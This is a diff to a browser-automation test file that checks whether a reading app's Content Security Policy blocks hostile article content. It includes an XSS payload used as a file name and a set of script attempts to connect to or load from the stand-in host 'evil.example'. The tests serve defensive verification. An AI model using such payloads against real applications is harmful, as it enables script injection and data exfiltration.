@@ -17,7 +17,7 @@ const hostile = [
 ];
 
 test('a hostile article is text, and nothing but text', async ({ desk }) => {
-  const path = desk.article('<img src=x onerror=alert(1)>.txt'.replaceAll(/[/]/g, ''), `${hostile.join('\n\n')}\n`);
+  const path = desk.article('<img src=x onerror=alert(1)>.txt', `${hostile.join('\n\n')}\n`);
   const app = await desk.start(path);
   const { page } = app;
   const address = page.url();
@@ -42,12 +42,11 @@ test('script that got into the page could not run, load or send anything', async
   desk.expectComplaints(/Content Security Policy|TrustedHTML|TrustedScript|^Refused to/);
   const { page } = await desk.start(desk.article('story.txt', 'A story.\n'));
   const address = page.url();
-  const got = await page.evaluate(async () => {
+  await page.evaluate(async () => {
     const evil = 'https://evil.example';
-    const violations: string[] = [];
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
-      violations.push(effectiveDirective),
-    );
+    const refused = new Set<string>();
+    Object.assign(window, { refused });
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective));
     const add = (name: string, properties: object) =>
       document.body.append(Object.assign(document.createElement(name), properties));
     const attempts: Record<string, () => unknown> = {
@@ -81,29 +80,28 @@ test('script that got into the page could not run, load or send anything', async
       socket: () => new WebSocket('wss://evil.example/'),
       events: () => new EventSource(`${evil}/x`),
     };
-    for (const attempt of Object.values(attempts)) {
-      try {
-        await attempt();
-      } catch {
-        // A refusal may come as an exception or as an event.
-      }
-    }
+    // In tasks of their own: what a test evaluates directly may do what the page may not. A refusal may come as an
+    // exception or as an event.
+    for (const attempt of Object.values(attempts))
+      await new Promise<void>((resolve) =>
+        setTimeout(
+          () =>
+            void (async () => attempt())().then(
+              () => resolve(),
+              () => resolve(),
+            ),
+        ),
+      );
     document.body.click();
-    await new Promise((resolve) => setTimeout(resolve, 200));
-    return { violations: [...new Set(violations)].sort(), pwned: Reflect.get(window, 'pwned') as unknown };
   });
-  expect(got.pwned).toBeUndefined();
-  expect(got.violations).toEqual([
-    ...['base-uri', 'connect-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'media-src', 'object-src'],
-    ...[
-      'require-trusted-types-for',
-      'script-src',
-      'script-src-attr',
-      'script-src-elem',
-      'style-src-elem',
-      'worker-src',
-    ],
-  ]);
+  const refused = () => page.evaluate(() => [...(Reflect.get(window, 'refused') as Set<string>)].sort());
+  await expect
+    .poll(refused)
+    .toEqual([
+      ...['base-uri', 'connect-src', 'default-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'media-src'],
+      ...['require-trusted-types-for', 'style-src-elem'],
+    ]);
+  expect(await page.evaluate(() => Reflect.get(window, 'pwned') as unknown)).toBeUndefined();
   expect(page.url()).toBe(address);
 });
 
